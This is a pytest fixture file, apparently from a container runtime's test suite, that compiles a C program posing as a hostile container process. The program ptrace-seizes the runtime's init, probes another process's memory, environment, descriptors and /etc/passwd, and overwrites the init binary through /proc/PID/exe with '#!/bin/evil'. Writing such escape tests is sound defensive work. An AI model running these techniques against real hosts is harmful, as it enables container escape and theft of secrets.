"""A static program for images: a hostile process that looks for init, and at what it can do to it.

watch FILE       until killed: for each process that is init, lines in FILE with what it has
                 (capabilities, seccomp, descriptors) when it is seized with ptrace(2)
probe PID        once: tries what a process may do to another one; prints what worked
exe PID FILE     holds the program of PID, waits until PID has ended, and writes to the program;
                 prints the errno, or "written"
mark FILE CAP    gives FILE the file capability CAP in its permitted, inheritable and effective
                 sets (security.capability, version 2)
"""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from pathlib import Path

SOURCE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int read_file(int pid, const char *name, char *text, size_t size)
{
	char path[64];
	int fd, got;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	got = read(fd, text, size - 1);
	close(fd);
	text[got < 0 ? 0 : got] = 0;
	return got;
}

static long long field(const char *status, const char *name, int base)
{
	const char *at = strstr(status, name);

	return at ? strtoll(at + strlen(name), NULL, base) : -1;
}

/* "ocipy:[init]", "runc:[2:INIT]" */
static int is_init(const char *comm)
{
	return strstr(comm, "[init]") || strstr(comm, ":INIT]");
}

static void list_descriptors(int pid, int out)
{
	char path[64], line[400];
	struct dirent *entry;
	DIR *directory;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	directory = opendir(path);
	while (directory && (entry = readdir(directory))) {
		char target[300];
		ssize_t length = readlinkat(dirfd(directory), entry->d_name, target, sizeof(target));

		if (length > 0)
			write(out, line, snprintf(line, sizeof(line), "fd %s %.*s\n", entry->d_name,
							(int)length, target));
	}
	if (directory)
		closedir(directory);
}

static void seize(int pid, int out)
{
	char status[4096], comm[32], line[128];
	int stopped;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &stopped, __WALL) == pid &&
		WIFSTOPPED(stopped) && read_file(pid, "status", status, sizeof(status)) > 0 &&
		read_file(pid, "comm", comm, sizeof(comm)) > 0 && is_init(comm)) {
		snprintf(line, sizeof(line), "has %llx %lld\n", field(status, "CapPrm:", 16),
				field(status, "Seccomp:", 10));
		write(out, line, strlen(line));
		list_descriptors(pid, out);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static int watch(const char *file)
{
	int out = open(file, O_WRONLY | O_CREAT | O_APPEND, 0644);
	char comm[32];

	signal(SIGCHLD, SIG_DFL);
	write(1, "up\n", 3);
	for (int last = 1;;) {
		char text[64];
		int fd = open("/proc/loadavg", O_RDONLY), newest;

		/* "... newest": the last pid that was given away in this namespace. */
		text[read(fd, text, sizeof(text) - 1)] = 0;
		close(fd);
		newest = atoi(strrchr(text, ' '));
		for (int pid = newest - 2 > 1 ? newest - 2 : 2; pid <= newest + 1; pid++)
			if (pid != getpid() && read_file(pid, "comm", comm, sizeof(comm)) > 0 &&
				is_init(comm))
				seize(pid, out);
		last = newest;
	}
}

static void says(const char *what, int worked)
{
	if (worked)
		printf("%s\n", what);
}

static int probe(int pid)
{
	static const struct { const char *name; int flags; } files[] = {
		{ "exe", O_RDONLY }, { "exe", O_WRONLY }, { "mem", O_RDWR }, { "maps", O_RDONLY },
		{ "root/etc/passwd", O_RDONLY }, { "environ", O_RDONLY },
	};
	static const char *directories[] = { "fd", "map_files" };
	char path[300], word;
	struct iovec local = { &word, 1 }, remote = { (void *)0x400000, 1 };
	int pidfd = syscall(434, pid, 0);

	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i].name);
		int fd = open(path, files[i].flags);

		/* Some can be opened by everybody, and read by nobody. */
		if (fd >= 0 && (strcmp(files[i].name, "maps") || read(fd, &word, 1) == 1))
			printf("%s%s\n", files[i].name, files[i].flags == O_WRONLY ? " for writing" : "");
	}
	for (size_t i = 0; i < 2; i++) {
		struct dirent *entry;
		DIR *directory;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, directories[i]);
		directory = opendir(path);
		while (directory && (entry = readdir(directory)))
			if (entry->d_name[0] != '.') {
				char target[300];
				ssize_t length = readlinkat(dirfd(directory), entry->d_name, target, 299);

				if (length > 0)
					printf("%s %.*s\n", directories[i], (int)length, target);
			}
	}
	for (int fd = 0; fd < 32; fd++)
		says("pidfd_getfd", syscall(438, pidfd, fd, 0) >= 0);
	says("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1);
	says("ptrace", ptrace(PTRACE_SEIZE, pid, 0, 0) == 0);
	return 0;
}

static int overwrite(int pid, const char *ready)
{
	char path[64];
	int held, fd, error = 0;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	held = open(path, O_PATH);
	if (held < 0) {
		printf("held: %s\n", strerror(errno));
		return 0;
	}
	close(open(ready, O_WRONLY | O_CREAT, 0644));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	/* ETXTBSY as long as somebody runs it. */
	for (int i = 0; i < 6000; i++) {
		fd = open(path, O_WRONLY);
		error = errno;
		if (fd >= 0 || error != ETXTBSY)
			break;
		usleep(10000);
	}
	if (fd < 0)
		printf("open: %s\n", strerror(error));
	else
		printf("%s\n", write(fd, "#!/bin/evil\n", 12) == 12 ? "written" : strerror(errno));
	return 0;
}

static int mark(const char *file, int cap, const char *set)
{
	uint32_t data[5] = { 0x02000000 | 1 };

	data[strcmp(set, "inheritable") ? 1 : 2] = 1U << cap;
	return setxattr(file, "security.capability", data, sizeof(data), 0) < 0;
}

static int regroup(const char *file)
{
	char text[100];
	int fd;

	if (syscall(SYS_setgroups, 0, NULL) < 0)
		printf("setgroups: %s\n", strerror(errno));
	fd = open(file, O_RDONLY);
	if (fd < 0)
		return printf("open: %s\n", strerror(errno)) < 0;
	return write(1, text, read(fd, text, sizeof(text))) < 0;
}

int main(int argc, char **argv)
{
	if (!strcmp(argv[1], "watch"))
		return watch(argv[2]);
	if (!strcmp(argv[1], "probe"))
		return probe(atoi(argv[2]));
	if (!strcmp(argv[1], "exe"))
		return overwrite(atoi(argv[2]), argv[3]);
	if (!strcmp(argv[1], "whoami"))
		return printf("%d\n", geteuid()) < 0;
	if (!strcmp(argv[1], "regroup"))
		return regroup(argv[2]);
	return mark(argv[2], atoi(argv[3]), argv[4]);
}
"""


@pytest.fixture(scope="session")
def tracer(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the program, compiled."""
    directory = tmp_path_factory.mktemp("tracer")
    source = directory / "tracer.c"
    source.write_text(SOURCE)
    program = directory / "tracer"
    subprocess.run(["gcc", "-static", "-O", "-w", "-o", program, source], check=True)
    return program
